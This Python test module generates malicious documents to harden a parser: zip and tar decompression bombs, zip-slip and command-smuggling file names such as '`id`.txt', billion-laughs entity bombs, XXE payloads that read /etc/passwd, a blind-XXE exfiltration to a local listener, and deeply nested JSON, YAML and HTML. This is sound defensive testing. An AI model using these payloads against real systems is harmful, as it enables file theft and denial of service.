# SPDX-License-Identifier: Apache-2.0
"""Documents of ill will, each made when it is asked for: bombs, loops, lies about sizes, floods, depths.

`SHAPES` lists them. `small` and `large` are how much of the evil a shape has: the small one is for each run of the tests, the
large one as bad as somebody would make it. `reasons` is what may become of it: None for a document that is read, else one of the
reasons of a failed document. What a shape must never become is a crash, a timeout or a worker without memory."""
import base64
import bz2
import gzip
import io
import json
import lzma
import pathlib
import re
import struct
import tarfile
import zipfile
import zlib
from dataclasses import dataclass
from typing import Callable

FIXTURES = pathlib.Path(__file__).resolve().parents[1] / "fixtures"
LISTENER = "http://127.0.0.1:1"  # stands in the documents; a test puts the port of its own listener there
OK = None


@dataclass(frozen=True)
class Shape:
    name: str
    make: Callable[[int], bytes]
    small: int
    large: int
    reasons: tuple


SHAPES = []


def shape(name, small, large, *reasons):
    """Enters a function of the size; `reasons` are the outcomes that are right."""
    def enter(make):
        SHAPES.append(Shape(name, make, small, large, reasons or (OK,)))
        return make
    return enter


def deflate(content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def pressed(size, packer, more=b""):
    """`size` spaces, and what stands behind them, through a packer."""
    block = b" " * (1 << 20)
    return b"".join([packer.compress(block) for _ in range(size >> 20)] + [packer.compress(more), packer.flush()])


def zipped(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def fixture(path):
    return (FIXTURES / path).read_bytes()


def repacked(path, change=lambda name, content: content, more=()):
    """A packed fixture, each of its members changed, with more behind them."""
    with zipfile.ZipFile(FIXTURES / path) as archive:
        members = [(info.filename, change(info.filename, archive.read(info))) for info in archive.infolist()]
    return zipped(members + list(more))


def exchanged(path, parts):
    """A packed fixture whose parts of these names are what the functions make of their bytes."""
    return repacked(path, lambda name, content: parts[name](content) if name in parts else content)


def exchange(path, part, change):
    return exchanged(path, {part: change})


# --- zip -----------------------------------------------------------------------------------------------------------------

def raw_zip(members, offsets=None, count=None, directory_at=None, end_size=None):
    """Members as (name in the local header, name in the directory, method, packed, size claimed, crc)."""
    body, directory, at = bytearray(), bytearray(), []
    for local, _, method, packed, size, crc in members:
        at.append(len(body))
        body += b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0x800, method, 0, 0x5865, crc, len(packed), size, len(local), 0)
        body += local + packed
    for (_, central, method, packed, size, crc), place in zip(members, offsets or at):
        directory += b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0x800, method, 0, 0x5865, crc, len(packed), size,
                                             len(central), 0, 0, 0, 0, 0, place) + central
    count = len(members) if count is None else count
    place = len(body) if directory_at is None else directory_at
    return bytes(body + directory) + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count & 0xFFFF, count & 0xFFFF,
                                                             len(directory) if end_size is None else end_size, place, 0)


def member(name, content, central=None, size=None):
    name = name if isinstance(name, bytes) else name.encode()
    central = name if central is None else central
    return name, central, 8, deflate(content), len(content) if size is None else size, zlib.crc32(content)


@shape("flat-bomb.zip", 50 << 20, 1 << 30, "over_limit", OK)
def flat_bomb(size):
    packed = pressed(size, zlib.compressobj(9, zlib.DEFLATED, -15))
    return raw_zip([(b"zeros.txt", b"zeros.txt", 8, packed, size, 0)])


@shape("many-members.zip", 3000, 200000, OK, "over_limit")
def many_members(count):
    return raw_zip([(b"%d.txt" % i, b"%d.txt" % i, 0, b"word", 4, zlib.crc32(b"word")) for i in range(count)])


@shape("fifield.zip", 200, 20000, OK, "over_limit", "malformed")
def overlapping(count):
    """Every file quotes the local headers of those behind it, so that all share one kernel (Fifield, "A better zip bomb",
    WOOT 2019)."""
    kernel = deflate(b"a" * (1 << 20))
    crc = zlib.crc32(b"a" * (1 << 20))
    body, directory, at = bytearray(), bytearray(), []
    for i in range(count):
        name = b"%06d.txt" % i
        at.append(len(body))
        quoted = 30 + len(name) + 5
        rest = (count - i - 1) * quoted
        packed = (5 if i < count - 1 else 0) + rest + len(kernel)
        packed = min(packed, 0xFFFFFFFF)
        body += b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0x800, 8, 0, 0x5865, crc, packed, 1 << 20, len(name), 0) + name
        if i < count - 1:
            body += b"\0" + struct.pack("<HH", 30 + len(name), 0xFFFF ^ (30 + len(name)))
    body += kernel
    for i, place in enumerate(at):
        name = b"%06d.txt" % i
        directory += b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0x800, 8, 0, 0x5865, crc, len(body) - place - 40,
                                             1 << 20, len(name), 0, 0, 0, 0, 0, place) + name
    return bytes(body + directory) + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)


@shape("same-bytes.zip", 2000, 60000, OK, "over_limit", "malformed")
def same_bytes(count):
    """Every entry of the directory points to the one member."""
    one = member("a.txt", b"word " * 200000)
    return raw_zip([one] + [(b"", b"%d.txt" % i, 8, b"", 0, one[5]) for i in range(count)], offsets=[0] * (count + 1))


@shape("nested.zip", 4, 16, OK, "over_limit")
def nested_zip(width):
    """Six levels of archives, as 42.zip."""
    inner = zipped([("zeros.txt", b"0" * (1 << 20))])
    for level in range(6):
        inner = zipped([(f"{level}-{i}.zip", inner) for i in range(width)])
    return inner


@shape("endless.zip", 200, 5000, OK, "over_limit")
def deep_zip(levels):
    inner = b"the innermost word"
    for level in range(levels):
        inner = zipped([("a.txt" if level == 0 else "a.zip", inner)], zipfile.ZIP_STORED)
    return inner


NAMES = ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "C:\\Windows\\win.ini", "\\\\host\\share\\a.txt", "a\0b.txt",
         "x" * 60000 + ".txt", "a\x01\x1b[31m\x7f.txt", "\u202egpj.txt", "\u2066a\u2069.txt", "a//b///c.txt", "./././a.txt", ".",
         "..", "", "/", "con.txt", "a/../../b.txt", "~/.ssh/id", "$HOME/a.txt", "`id`.txt", "a!/b.txt", "\ufeff.txt",
         "e\u0301.txt", "\u00e9.txt", "a\nb.txt", "a\u2028b.txt", "水/../../火.txt"]


@shape("slip.zip", 1, 1000, OK)
def slip(times):
    return raw_zip([member(name, f"word {i}".encode()) for _ in range(times) for i, name in enumerate(NAMES)])


@shape("slip-bytes.zip", 1, 1)
def slip_bytes(_):
    names = [b"\xff\xfe\xff.txt", b"\xc0\xaf..\xc0\xafetc", b"\xed\xa0\x80.txt", b"\x80" * 5000, b"%2e%2e%2fetc.txt"]
    return raw_zip([member(name, b"some words") for name in names])


@shape("duplicates.zip", 500, 60000, OK, "over_limit")
def duplicates(count):
    return raw_zip([(b"same.txt", b"same.txt", 0, b"word", 4, zlib.crc32(b"word"))] * count)


@shape("other-names.zip", 1, 1)
def other_names(_):
    return raw_zip([member("local.txt", b"local words", central=b"central.txt"), member("b.txt", b"words", size=1 << 31)])


@shape("count-lies.zip", 1, 1, OK, "malformed")
def count_lies(_):
    return raw_zip([member("a.txt", b"words of a")], count=65535)


@shape("directory-lies.zip", 1, 1, OK, "malformed")
def directory_lies(_):
    return raw_zip([member("a.txt", b"words of a")], directory_at=0xFFFFFFF0, end_size=0xFFFFFFFF)


@shape("zip64-lies.zip", 1, 1, OK, "malformed")
def zip64_lies(_):
    name, extra = b"a.txt", struct.pack("<HHQQQ", 1, 24, 1 << 62, 1 << 62, (1 << 63) + 5)
    packed = deflate(b"words of a")
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 45, 0, 8, 0, 0x5865, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
    body = local + name + extra + packed
    directory = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 45, 45, 0, 8, 0, 0x5865, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(name),
                                        len(extra), 0, 0, 0, 0, 0xFFFFFFFF) + name + extra
    end64 = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, len(directory), len(body))
    locator = b"PK\6\7" + struct.pack("<IQI", 0, len(body) + len(directory), 1)
    return body + directory + end64 + locator + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


# --- tar and packed files ------------------------------------------------------------------------------------------------

def tarred(entries, form=tarfile.PAX_FORMAT):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as archive:
        for name, kind, content, link in entries:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def tar_header(name, size, kind=b"0", link=b""):
    header = name.ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2
    header += (b"%011o\0" % size if size < 8 << 30 else b"\x80" + size.to_bytes(11, "big")) + b"00000000000\0" + b" " * 8
    header += kind + link.ljust(100, b"\0") + b"ustar\00000" + bytes(64) + bytes(16) + bytes(155 + 12)
    header = header[:512]
    return header[:148] + b"%06o\0 " % sum(header) + header[156:]


@shape("links.tar", 50, 20000, OK, "empty", "over_limit", "no_text")
def tar_links(count):
    kinds = [(tarfile.SYMTYPE, "/etc/passwd"), (tarfile.LNKTYPE, "../../etc/passwd"), (tarfile.CHRTYPE, ""), (tarfile.BLKTYPE, ""),
             (tarfile.FIFOTYPE, ""), (tarfile.SYMTYPE, "a0"), (tarfile.DIRTYPE, "")]
    entries = [(f"a{i}", *kinds[i % len(kinds)]) for i in range(count)]
    return tarred([(name, kind, b"", link) for name, kind, link in entries] + [("good.txt", tarfile.REGTYPE, b"good words", "")])


@shape("huge-size.tar", 1, 1, "malformed", OK)
def tar_huge(_):
    return tar_header(b"good.txt", 10) + b"good words".ljust(512, b"\0") + tar_header(b"huge.txt", 1 << 62) + b"few words".ljust(512, b"\0")


@shape("negative-size.tar", 1, 1, "malformed", OK, "empty")
def tar_negative(_):
    header = bytearray(tar_header(b"a.txt", 10))
    header[124:136] = b"\xff" * 12
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + b"words".ljust(512, b"\0") + bytes(1024)


@shape("sparse.tar", 1, 1, "over_limit", "malformed", OK)
def tar_sparse(_):
    """A file of one byte that says that it is eight terabytes of holes."""
    pax = b"GNU.sparse.major=1\nGNU.sparse.minor=0\nGNU.sparse.name=hole.txt\nGNU.sparse.realsize=8796093022208\n"
    records = b"".join(b"%d %s\n" % (len(line) + 1 + len(str(len(line) + 4)), line) for line in pax.splitlines())
    body = b"1\n8796093022200\n8\n".ljust(512, b"\0") + b"8 words.".ljust(512, b"\0")
    return tar_header(b"pax", len(records), b"x") + records.ljust(-(-len(records) // 512) * 512, b"\0") + \
        tar_header(b"./GNUSparseFile.0/hole.txt", 520) + body + bytes(1024)


@shape("pax.tar", 1 << 20, 100 << 20, OK, "malformed", "over_limit")
def tar_pax(size):
    line = b"comment=" + b"x" * size + b"\n"
    records = b"%d %s" % (len(line) + 1 + len(str(len(line) + 9)), line)
    return tar_header(b"pax", len(records), b"x") + records.ljust(-(-len(records) // 512) * 512, b"\0") + \
        tar_header(b"good.txt", 10) + b"good words".ljust(512, b"\0") + bytes(1024)


@shape("pax-flood.tar", 2000, 100000, OK, "malformed", "empty")
def tar_pax_flood(count):
    records = b"11 path=aa\n" * 40  # libarchive gives up behind some thirty
    return (tar_header(b"pax", len(records), b"x") + records.ljust(512, b"\0")) * count + \
        tar_header(b"good.txt", 10) + b"good words".ljust(512, b"\0") + bytes(1024)


@shape("long-names.tar", 1 << 20, 60 << 20, OK, "malformed", "over_limit")
def tar_long_names(size):
    size += 5
    return tar_header(b"././@LongLink", size, b"L") + (b"a/" * (size // 2) + b"a.txt").ljust(-(-size // 512) * 512, b"\0") + \
        tar_header(b"good.txt", 10) + b"good words".ljust(512, b"\0") + bytes(1024)


@shape("thrice.txt.gz.gz.gz", 10 << 20, 1 << 30, "over_limit", OK)
def thrice(size):
    return gzip.compress(gzip.compress(pressed(size, zlib.compressobj(9, zlib.DEFLATED, 31))))


@shape("many.gz", 2000, 200000, OK, "over_limit")
def many_members_gz(count):
    return gzip.compress(b"some words\n") * count


@shape("endless.gz", 100, 3000, OK, "over_limit")
def endless_gz(levels):
    inner = b"the innermost words"
    for _ in range(levels):
        inner = gzip.compress(inner, 1)
    return inner


@shape("bomb.tar.xz", 20 << 20, 1 << 30, OK, "over_limit")
def tar_xz_bomb(size):
    packer = lzma.LZMACompressor()
    return packer.compress(tar_header(b"zeros.txt", size)) + pressed(size, packer, bytes(1024))


@shape("dictionary.txt.xz", 1, 1, OK, "over_limit")
def xz_dictionary(_):
    """A few words that say they need a dictionary of 1.5 GB."""
    filters = [{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1 << 16}]
    packed = bytearray(lzma.compress(b"some words", filters=filters))
    at = packed.index(b"\x21\x01", 12)
    packed[at + 2] = 39  # 2^31 * 1.5: the property byte of a dictionary of 3 GiB
    size = (packed[12] + 1) * 4
    packed[12 + size - 4:12 + size] = struct.pack("<I", zlib.crc32(bytes(packed[12:12 + size - 4])))
    return bytes(packed)


@shape("dictionary.txt.lzma", 1, 1, OK, "over_limit", "unsupported", "malformed")
def lzma_dictionary(_):
    packed = bytearray(lzma.compress(b"some words", format=lzma.FORMAT_ALONE))
    packed[1:5] = struct.pack("<I", 0xFFFFFFFF)
    return bytes(packed)


@shape("window.txt.zst", 1, 1, "over_limit", "malformed", OK)
def zstd_window(_):
    """A frame whose window descriptor asks for two terabytes less than the format's most."""
    return struct.pack("<I", 0xFD2FB528) + bytes([0x00, 0xF8]) + struct.pack("<I", (10 << 3) | 1)[:3] + b"some words"


@shape("empty-blocks.txt.zst", 100000, 30000000, OK, "malformed", "empty", "over_limit")
def zstd_blocks(count):
    return struct.pack("<I", 0xFD2FB528) + bytes([0x20, 10]) + b"\0\0\0" * count + struct.pack("<I", (10 << 3) | 1)[:3] + b"some words"


@shape("noise.txt.bz2", 1, 1, OK, "malformed")
def bz2_noise(_):
    return bz2.compress(b"words " * 3000)[:40] + bytes(range(256)) * 8


@shape("header-lies.7z", 1, 1, "malformed", "over_limit")
def sevenzip_lies(_):
    head = struct.pack("<QQI", 0, 1 << 40, 0)
    return b"7z\xbc\xaf'\x1c\0\4" + struct.pack("<I", zlib.crc32(head)) + head


@shape("files-lies.7z", 1, 1, "malformed", "over_limit")
def sevenzip_files(_):
    header = b"\x01\x05" + b"\xff" + struct.pack("<Q", 1 << 60) + b"\0\0"
    head = struct.pack("<QQI", 0, len(header), zlib.crc32(header))
    return b"7z\xbc\xaf'\x1c\0\4" + struct.pack("<I", zlib.crc32(head)) + head + header


# --- XML in every format that has it ---------------------------------------------------------------------------------------

def laughs(levels=10):
    return "<!DOCTYPE z [<!ENTITY a0 'ha'>" + "".join(
        f"<!ENTITY a{i} '{'&a%d;' % (i - 1) * 10}'>" for i in range(1, levels)) + f"<!ENTITY e '&a{levels - 1};'>]>"


DOCTYPES = {
    "laughs": lambda size: laughs(),
    "quadratic": lambda size: f"<!DOCTYPE z [<!ENTITY b '{'b' * size}'><!ENTITY e '{'&b;' * (size // 4)}'>]>",
    "loop": lambda size: "<!DOCTYPE z [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>",
    "xxe-file": lambda size: "<!DOCTYPE z [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "xxe-http": lambda size: f"<!DOCTYPE z SYSTEM '{LISTENER}/z.dtd' [<!ENTITY e SYSTEM '{LISTENER}/entity'>]>",
    "xxe-parameter": lambda size: f"<!DOCTYPE z [<!ENTITY % p SYSTEM '{LISTENER}/p.dtd'> %p; <!ENTITY e 'x'>]>",
    "xxe-blind": lambda size: "<!DOCTYPE z [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % q \"<!ENTITY &#37; s SYSTEM "
                              f"'{LISTENER}/?%f;'>\"> %q; %s; <!ENTITY e 'x'>]>",
}


def with_doctype(xml, doctype, at):
    """`xml` with a document type and the entity in front of `at`'s first place."""
    text = xml.decode("utf-8")
    head = text.index("?>") + 2 if text.startswith("<?xml") else 0
    rest = text[head:]
    if rest.lstrip().startswith("<!DOCTYPE"):
        rest = rest[rest.index(">") + 1:]
    place = rest.index(at) + len(at)
    return (text[:head] + doctype + rest[:place] + "&e;" + rest[place:]).encode("utf-8")


XML_PLACES = {
    "docx": ("docx/mill-en.docx", "word/document.xml", "<w:t>"),
    "xlsx": ("xlsx/report-en.xlsx", "xl/sharedStrings.xml", "<t>"),
    "sheet.xlsx": ("xlsx/report-en.xlsx", "xl/worksheets/sheet1.xml", "<v>"),
    "workbook.xlsx": ("xlsx/report-en.xlsx", "xl/workbook.xml", "<sheets>"),
    "pptx": ("pptx/mill-en.pptx", "ppt/slides/slide1.xml", "<a:t>"),
    "odt": ("odt/mill-en.odt", "content.xml", "<office:text>"),
    "ods": ("ods/parts-en.ods", "content.xml", "<office:spreadsheet>"),
    "odp": ("odp/mill-en.odp", "content.xml", "<office:presentation>"),
    "chapter.epub": ("book/three.epub", "OEBPS/c1.xhtml", "<p>"),
    "opf.epub": ("book/three.epub", "OEBPS/content.opf", "<dc:title>"),
    "ncx.epub": ("book/pandoc-3.epub", "EPUB/toc.ncx", "<text>"),
    "container.epub": ("book/three.epub", "META-INF/container.xml", "<rootfiles>"),
    "fb2": ("book/pandoc.fb2", None, "<p>"),
    "xml": ("records/catalog.xml", None, None),
    "feed": ("feed/wordpress.xml", None, "<channel>"),
    "atom": ("feed/releases.atom", None, "</id>"),
    "entry": ("feed/entry-zh.xml", None, "<title>"),
    "opml": ("feed/subscriptions.opml", None, "<body>"),
    "sitemap": ("feed/sitemap.xml", None, "<loc>"),
}


def root_of(xml):
    start = next(found.start() for found in re.finditer(rb"<[a-zA-Z]", xml))
    return xml[start:xml.index(b">", start) + 1]


def at_place(place, change):
    """Makes the document of a place, with its XML changed: a function of that, of the text where it happens, and of the size."""
    path, part, at = XML_PLACES[place]

    def make(size):
        def changed(xml):
            return change(xml, at.encode() if at else root_of(xml), size)
        return exchange(path, part, changed) if part else changed(fixture(path))
    return make


def xml_attack(place, doctype):
    return at_place(place, lambda xml, mark, size: with_doctype(xml, DOCTYPES[doctype](size), mark.decode()))


for _place in XML_PLACES:
    for _doctype in DOCTYPES:
        SHAPES.append(Shape(f"{_doctype}.{_place}", xml_attack(_place, _doctype), 20000, 400000, (OK, "malformed", "over_limit")))


def xml_grown(place, grow):
    def change(xml, mark, size):
        where = xml.index(mark)
        where += 0 if grow == attributes else len(mark)
        return xml[:where] + grow(size) + xml[where:]
    return at_place(place, change)


def depth(size):
    return b"<x>" * size + b"deep words" + b"</x>" * size


def attributes(size):
    return b"<y " + b" ".join(b"a%d=''" % i for i in range(size)) + b"/>"


def comments(size):
    return b"<!-- - -->" * size


for _place in XML_PLACES:
    SHAPES.append(Shape(f"depth.{_place}", xml_grown(_place, depth), 5000, 100000, (OK, "malformed", "over_limit", "no_text", "empty")))
    SHAPES.append(Shape(f"attributes.{_place}", xml_grown(_place, attributes), 20000, 10000000, (OK, "malformed", "over_limit")))
    SHAPES.append(Shape(f"comments.{_place}", xml_grown(_place, comments), 20000, 5000000, (OK, "malformed", "over_limit")))


# --- feeds and what lists addresses ------------------------------------------------------------------------------------------

def rss(items):
    return b"<rss version='2.0'><channel><title>T</title>" + items + b"</channel></rss>"


@shape("items.rss", 20000, 10000000, OK, "over_limit")
def feed_items(count):
    return rss(b"<item/>" * count)


@shape("same-id.rss", 5000, 200000)
def feed_same_id(count):
    return rss(b"".join(b"<item><guid>x</guid><title>%d</title></item>" % i for i in range(count)))


@shape("unclosed-items.rss", 5000, 1000000, OK, "over_limit")
def feed_unclosed(count):
    return b"<rss><channel>" + b"<item><title>x" * count


@shape("cdata.rss", 5000, 5000000, OK, "over_limit")
def feed_cdata(count):
    return rss(b"<item><title>a</title><description>" + b"<![CDATA[</" * count)


@shape("quotes.rss", 5000, 5000000, OK, "over_limit")
def feed_quotes(count):
    return rss(b"<item><title>a</title>" + b"<a b='" * count)


@shape("references.rss", 50000, 20000000, OK, "over_limit")
def feed_references(size):
    return rss(b"<item><guid>1</guid><description>" + b"&" * size + b"</description></item>")


@shape("declared-words.rss", 5000, 5000000, OK, "over_limit")
def feed_words(count):
    return b"<!DOCTYPE rss [<!ENTITY e '" + b"w" * 64 + b"'>]>" + rss(b"<item><title>" + b"&e;" * count + b"</title></item>")


@shape("closing-tags.rss", 20000, 10000000, OK, "over_limit")
def feed_closing(count):
    return rss(b"<item><title>t</title><description>" + b"<x>" * 150 + b"</y>" * count + b"</description></item>")


@shape("fields.rss", 20000, 2000000, OK, "over_limit")
def feed_fields(count):
    return rss(b"<item><guid>1</guid>" + b"<category>c</category><author>a</author><enclosure url='u'/>" * count + b"</item>")


@shape("long-id.rss", 50000, 10000000, OK, "over_limit")
def feed_long_id(size):
    return rss(b"<item><guid>" + b"/../" * (size // 4) + b"</guid><title>t</title></item>")


@shape("deep-content.rss", 20000, 2000000, OK, "over_limit")
def feed_deep_content(size):
    return rss(b"<item><guid>1</guid><description>words" + b"&lt;div>" * size + b"</description></item>")


@shape("never-closed.rss", 20000, 2000000, OK, "over_limit")
def feed_never_closed(size):
    return rss(b"<item><guid>1</guid><description>words" + b"&lt;iframe " * size + b"</description></item>")


@shape("media-groups.rss", 150, 150)
def feed_groups(count):
    return (b"<rss xmlns:media='http://search.yahoo.com/mrss/'><channel><item>" + b"<media:group><media:title>t</media:title>" * count +
            b"</media:group>" * count + b"</item></channel></rss>")


@shape("items.json", 20000, 1000000, OK, "over_limit")
def feed_json_items(count):
    return b'{"version":"https://jsonfeed.org/version/1","items":[' + b",".join(b'{"id":%d}' % i for i in range(count)) + b"]}"


@shape("deep.opml", 5000, 100000)
def opml_deep(count):
    return b"<opml><body>" + b"<outline text='a'>" * count + b"</outline>" * count + b"</body></opml>"


@shape("wide.opml", 5000, 500000, OK, "over_limit")
def opml_wide(count):
    return b"<opml><body>" + b"<outline text='a' xmlUrl='http://127.0.0.1:1/'/>" * count + b"</body></opml>"


@shape("wide.sitemap", 20000, 4000000, OK, "over_limit")
def sitemap_wide(count):
    return (b"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>" + b"<url><loc>http://127.0.0.1:1/</loc></url>" * count +
            b"</urlset>")


@shape("sitemap-bomb.xml.gz", 20000, 20000000, OK, "over_limit")
def sitemap_bomb(count):
    return gzip.compress(b"<sitemapindex>" + b"<sitemap><loc>http://127.0.0.1:1/</loc></sitemap>" * count + b"</sitemapindex>")


@shape("names.xml", 20000, 2000000, OK, "over_limit")
def xml_names(count):
    return b"<r>" + b"".join(b"<n%d>w</n%d>" % (i, i) for i in range(count)) + b"</r>"


@shape("namespaces.xml", 2000, 200000, OK, "malformed", "over_limit")
def xml_namespaces(count):
    return b"<r " + b" ".join(b"xmlns:n%d='u%d'" % (i, i) for i in range(count)) + b">words</r>"


@shape("laughs.svg.epub", 1, 1)
def svg_epub(_):
    svg = laughs() + "<svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text></svg>"
    return repacked("book/three.epub", more=[("OEBPS/picture.svg", svg)])


# --- JSON, YAML, HTML ------------------------------------------------------------------------------------------------------

@shape("depth.json", 10000, 1000000, "over_limit", "malformed", OK)
def json_depth(size):
    return b"[" * size + b"1" + b"]" * size


@shape("objects.json", 10000, 1000000, "over_limit", "malformed", OK)
def json_objects(size):
    return b'{"a":' * size + b"1" + b"}" * size


@shape("open.json", 10000, 10000000, OK, "over_limit", "malformed")
def json_open(size):
    return b"[" * size


@shape("numbers.json", 100000, 20000000, OK, "malformed", "over_limit")
def json_number(size):
    return b'{"n": ' + b"9" * size + b', "m": 1e' + b"9" * 300 + b', "o": -0.' + b"0" * size + b"1}"


@shape("string.json", 1 << 20, 60 << 20, OK, "over_limit")
def json_string(size):
    return b'{"s": "' + b"word " * (size // 5) + b'"}'


@shape("keys.json", 20000, 2000000, OK, "over_limit")
def json_keys(count):
    return b"{" + b",".join(b'"same": %d' % i for i in range(count)) + b"}"


@shape("surrogates.json", 1, 100000, OK)
def json_surrogates(count):
    return b'{"a": "\\ud800 \\udc00\\ud800 \\u0000 words"' + b', "\\udead": "x\\uDFFF"' * count + b"}"


@shape("flat.json", 50000, 5000000, OK, "over_limit")
def json_flat(count):
    return b"[" + b"1," * count + b"1]"


@shape("depth.jsonl", 3000, 300000, OK, "malformed", "over_limit")
def jsonl_depth(size):
    return b'{"a": "words"}\n' * 3 + b'{"a":' * size + b"1" + b"}" * size + b"\n" + b'{"a": "more words"}\n' * 3


@shape("line.jsonl", 1 << 20, 100 << 20, OK, "over_limit", "malformed")
def jsonl_line(size):
    return b'{"a": "words"}\n' * 3 + b'{"a": "' + b"long words " * (size // 11) + b'"}\n{"a": "words"}\n'


@shape("empty-lines.jsonl", 1 << 20, 100 << 20, OK, "over_limit")
def jsonl_lines(size):
    return b'{"a": "words"}\n' * 3 + b"\n" * size + b'{"a": "words"}\n'


@shape("aliases.yaml", 9, 40, OK, "over_limit", "malformed")
def yaml_aliases(levels):
    lines = ["a0: &a0 [ha, ha, ha, ha, ha, ha, ha, ha, ha]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, levels)]
    return "\n".join(lines).encode()


@shape("cycle.yaml", 1, 1, OK, "malformed", "over_limit")
def yaml_cycle(_):
    return b"a: &a\n  b: *a\n  c: &c [*c, *a, words]\n"


@shape("flow.yaml", 10000, 1000000, "over_limit", "malformed", OK)
def yaml_flow(size):
    return b"a: words\nb: " + b"[" * size + b"1" + b"]" * size + b"\n"


@shape("block.yaml", 1000, 10000, "over_limit", "malformed", OK)
def yaml_block(size):
    return b"".join(b" " * i + b"a:\n" for i in range(size)) + b" " * size + b"words\n"


@shape("sequence.yaml", 10000, 1000000, "over_limit", "malformed", OK)
def yaml_sequence(size):
    return b"a: b\nc:\n" + b"- " * size + b"words\n"


@shape("anchors.yaml", 10000, 500000, OK, "over_limit", "malformed")
def yaml_anchors(count):
    return b"".join(b"k%d: &a%d v\n" % (i, i) for i in range(count))


@shape("keys.yaml", 10000, 500000, OK, "over_limit", "malformed")
def yaml_keys(count):
    return b"---\n" + b"".join(b"? a%d\n: b\n" % i for i in range(count))


@shape("depth.html", 20000, 1000000, OK, "over_limit", "malformed")
def html_depth(size):
    return b"<!doctype html><body>" + b"<div>" * size + b"deep words" + b"</div>" * size


@shape("formatting.html", 2000, 100000, OK, "over_limit", "malformed")
def html_formatting(size):
    """Misnested formatting elements: the adoption agency of the HTML standard runs for each."""
    return b"<!doctype html><body>" + b"<a><b><i><u><p>words" * size


@shape("fonts.html", 2000, 100000, OK, "over_limit", "malformed")
def html_fonts(size):
    return b"<!doctype html><body>" + b"".join(b"<font size=%d><p>w" % i for i in range(size))


@shape("attributes.html", 20000, 1000000, OK, "over_limit", "malformed")
def html_attributes(size):
    return b"<!doctype html><body><p " + b" ".join(b"a%d=1" % i for i in range(size)) + b">words</p>"


@shape("spans.html", 100, 3000, OK, "over_limit")
def html_spans(rows):
    return b"<!doctype html><table>" + b"<tr><td colspan=65534 rowspan=65534>words<td colspan=1000>more" * rows + b"</table>"


@shape("tables.html", 200, 100000, OK, "over_limit", "malformed")
def html_tables(depth_):
    return b"<!doctype html><body>" + b"<table><tr><td>w" * depth_


@shape("selects.html", 5000, 500000, OK, "over_limit", "malformed", "no_text")
def html_selects(size):
    return b"<!doctype html><body>words" + b"<template><svg><foreignObject>" * size


@shape("lists.html", 5000, 300000, OK, "over_limit", "malformed")
def html_lists(size):
    return b"<!doctype html><body>" + b"<ul><li>w" * size


@shape("entities.html", 20000, 5000000, OK, "over_limit")
def html_entities(size):
    return b"<!doctype html><p>" + b"&CounterClockwiseContourIntegral &#x110000; &#0; w" * size


@shape("comment.html", 1 << 20, 100 << 20, OK, "over_limit", "no_text", "empty")
def html_comment(size):
    return b"<!doctype html><p>words<!--" + b"-" * size


@shape("scripts.html", 10000, 2000000, OK, "over_limit", "no_text")
def html_scripts(size):
    return b"<!doctype html><p>words" + b"<script><!--<script>" * size


@shape("charset.html", 5000, 500000, OK)
def html_charset(size):
    return b"<meta charset=utf-16><meta charset=utf-7>" * size + b"<p>words"


# --- tables ----------------------------------------------------------------------------------------------------------------

def sheet(rows, more="", dimension="A1:XFD1048576"):
    return (f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/>'
            f"<sheetData>{rows}</sheetData>{more}</worksheet>").encode()


def workbook(rows, more=""):
    return exchange("xlsx/report-en.xlsx", "xl/worksheets/sheet1.xml", lambda _: sheet(rows, more))


def cell(place, text="words"):
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


@shape("far-cell.xlsx", 1, 1)
def xlsx_far(_):
    return workbook(f'<row r="1">{cell("A1")}</row><row r="1048576">{cell("XFD1048576", "far")}</row>')


@shape("beyond.xlsx", 1, 1, OK, "malformed")
def xlsx_beyond(_):
    return workbook(f'<row r="4294967297">{cell("ZZZZZZZ99999999999")}</row><row r="-1">{cell("A0")}</row><row r="2">{cell("A2")}</row>')


@shape("diagonal.xlsx", 2000, 16384, OK, "over_limit")
def xlsx_diagonal(count):
    def column(i):
        name = ""
        while i:
            i, digit = divmod(i - 1, 26)
            name = chr(65 + digit) + name
        return name
    return workbook("".join(f'<row r="{i * 60}">{cell(f"{column(i)}{i * 60}")}</row>' for i in range(1, count + 1)))


@shape("merged.xlsx", 1000, 200000, OK, "over_limit")
def xlsx_merged(count):
    merges = '<mergeCell ref="A1:XFD1048576"/>' * count
    return workbook(f'<row r="1">{cell("A1")}</row>', f'<mergeCells count="{count}">{merges}</mergeCells>')


